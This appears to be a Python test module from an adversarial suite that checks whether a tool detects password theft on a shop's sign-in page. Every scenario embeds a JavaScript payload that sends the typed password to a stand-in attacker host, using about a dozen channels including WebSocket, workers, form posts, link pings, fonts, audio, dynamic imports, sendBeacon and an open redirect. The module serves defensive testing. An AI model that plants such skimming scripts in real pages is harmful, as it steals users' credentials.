"""Attacks that opened their way out before the password was typed, or carry it off by rare ways."""

from __future__ import annotations

from tests.adversarial import carriers_rare
from tests.adversarial.exfiltration import SIGN_IN, TYPE
from tests.adversarial.scenario import Scenario, leaked
from tests.adversarial.world import EVIL, SHOP

WAIT = "\nawait page.wait_for_timeout(600)"
READY = "await page.wait_for_timeout(400)\n"


def _typed(script: str) -> str:
    """The shop's sign-in page; `raw` is what was typed, `v` the same for an address."""
    return f"""{SIGN_IN}<script>p.addEventListener('input', e => {{
      const raw = e.target.value, v = encodeURIComponent(raw); {script} }})</script>"""


SENDS = """<script>onmessage = e => fetch('/steal?v=' + encodeURIComponent(e.data))</script>"""
# name -> page
WAYS = {
    "a connection that stood open": "<script>const s = new WebSocket('{evil}/live'.replace('http',"
    " 'ws'))</script>" + _typed("s.send(raw)"),
    "a frame that was there before": "<iframe id=far src='{evil}/inbox'></iframe>"
    + _typed("far.contentWindow.postMessage(raw, '*')"),
    "a worker that was there before": "<script>const k = new Worker(URL.createObjectURL(new Blob(["
    "`onmessage = e => fetch('{evil}/steal?v=' + encodeURIComponent(e.data),"
    " {mode: 'no-cors'})`])))</script>" + _typed("k.postMessage(raw)"),
    "the address of a frame": _typed(
        "const f = document.createElement('iframe'); document.body.append(f);"
        " f.contentWindow.location = '{evil}/steal?v=' + v"
    ),
    "a form of its own": _typed(
        "const f = document.createElement('form'); f.action = '{evil}/steal'; f.method = 'post';"
        " f.target = '_blank'; const i = document.createElement('input'); i.name = 'v';"
        " i.value = raw; f.append(i); document.body.append(f); f.submit()"
    ),
    "a link's measurement": _typed(
        "const a = document.createElement('a'); a.href = '#'; a.ping = '{evil}/steal?v=' + v;"
        " document.body.append(a); a.click()"
    ),
    "a frame's own text": _typed(
        "const m = document.createElement('iframe'); m.srcdoc = '<meta http-equiv=refresh"
        " content=\"0;url={evil}/steal?v=' + v + '\">'; document.body.append(m)"
    ),
    "a film": _typed("const a = new Audio('{evil}/steal?v=' + v); a.play().catch(() => 0)"),
    "a font": _typed("new FontFace('x', 'url({evil}/steal?v=' + v + ')').load().catch(() => 0)"),
    "a module": _typed("import('{evil}/steal?v=' + v).catch(() => 0)"),
    "an old call": _typed(
        "const x = new XMLHttpRequest(); x.open('GET', '{evil}/steal?v=' + v); x.send()"
    ),
    "the page as it goes": _typed(
        "onpagehide = () => navigator.sendBeacon('{evil}/steal', raw); location = '/next'"
    ),
    "a helper of the site": _typed("fetch('/go?to=' + encodeURIComponent('{evil}/steal?v=' + v))"),
}

SCENARIOS = [
    Scenario(
        f"the password is carried off by {name}",
        "taint",
        leaked,
        READY + TYPE + WAIT,
        page,
        carriers_rare.ALL[i % len(carriers_rare.ALL)],
        pages={(EVIL, "/inbox"): SENDS, (SHOP, "/next"): "<h1>Next</h1>"},
        password=True,
        without=("gate",),
    )
    for i, (name, page) in enumerate(WAYS.items())
]
